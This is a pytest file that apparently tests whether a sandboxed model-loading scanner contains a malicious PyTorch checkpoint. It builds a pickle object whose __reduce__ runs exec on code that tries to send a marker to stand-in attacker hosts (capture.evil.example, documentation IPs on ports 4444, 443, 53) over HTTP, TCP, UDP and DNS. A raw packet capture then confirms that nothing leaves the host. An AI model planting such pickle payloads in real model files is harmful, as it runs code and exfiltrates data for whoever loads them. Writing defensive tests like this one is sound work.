"""A packet capture on the host, while a model does its best to be heard outside."""

from __future__ import annotations

import contextlib
import ipaddress
import os
import socket
import threading
from typing import TYPE_CHECKING

import pytest
import torch
from safe_load.loading import pipeline

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

ADDRESSES = ("203.0.113.7", "2001:db8::7", "203.0.113.8", "2001:db8::8")
MARK = "exfiltrated-by-the-capture-test"
CODE = f"""
import socket, urllib.request
def attempt(step):
    try: step()
    except OSError: pass
attempt(lambda: urllib.request.urlopen("http://capture.evil.example/?{MARK}", timeout=3))
attempt(lambda: socket.create_connection(("203.0.113.7", 4444), timeout=3).sendall(b"{MARK}"))
attempt(lambda: socket.create_connection(("2001:db8::7", 443), timeout=3).sendall(b"{MARK}"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{MARK}", ("203.0.113.8", 53)))
attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"{MARK}", ("2001:db8::8", 9)))
attempt(lambda: socket.getaddrinfo("{MARK}.evil.example", 80))
"""


class Loud:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, (CODE, {})


@contextlib.contextmanager
def capture() -> Iterator[list[bytes]]:
    """Every frame on every interface of the host, as long as the block runs."""
    frames: list[bytes] = []
    everything = socket.htons(0x0003)  # ETH_P_ALL
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, everything) as sock:
        sock.settimeout(0.1)
        done = threading.Event()

        def read() -> None:
            while not done.is_set():
                with contextlib.suppress(TimeoutError):
                    frames.append(sock.recv(65536))

        thread = threading.Thread(target=read)
        thread.start()
        try:
            yield frames
        finally:
            done.set()
            thread.join()


def concerns(frame: bytes, tried: set[bytes]) -> bool:
    """Whether a packet carries the mark, or comes from or goes to an address that was tried: not
    any of the networks for examples, as machines have been given addresses of those."""
    if MARK.encode() in frame or b"capture\x04evil" in frame:  # as a DNS question has it
        return True
    if frame[:1] and frame[0] >> 4 == 4:
        return not tried.isdisjoint((frame[12:16], frame[16:20]))
    if frame[:1] and frame[0] >> 4 == 6:
        return not tried.isdisjoint((frame[8:24], frame[24:40]))
    return False


def send_from_the_host() -> None:
    """One datagram of the kind looked for, to this host itself: the capture must see it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(MARK.encode(), ("127.0.0.1", 9))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may capture packets on the host")
def test_no_packet_of_a_model_reaches_an_interface_of_the_host(tmp_path: Path) -> None:
    source = tmp_path / "loud.bin"
    torch.save({"w": torch.zeros(2), "x": Loud()}, source)
    with capture() as frames:
        report = pipeline.scan(str(source))
        heard = [each for each in report.egress if MARK in each.payload_preview]
        tried = {
            ipaddress.ip_address(each.address).packed for each in report.egress if each.address
        }
        inside = [frame for frame in frames if concerns(frame, tried)]
        send_from_the_host()
        for _ in range(50):
            if any(concerns(frame, tried) for frame in frames):
                break
            threading.Event().wait(0.1)
    assert len(heard) >= 4, (report.outcome_detail, report.egress)
    assert {each.domain for each in report.egress} >= {"capture.evil.example"}
    assert inside == []
    assert {ipaddress.ip_address(each).packed for each in ADDRESSES} <= tried
    assert any(concerns(frame, tried) for frame in frames), "the capture works"
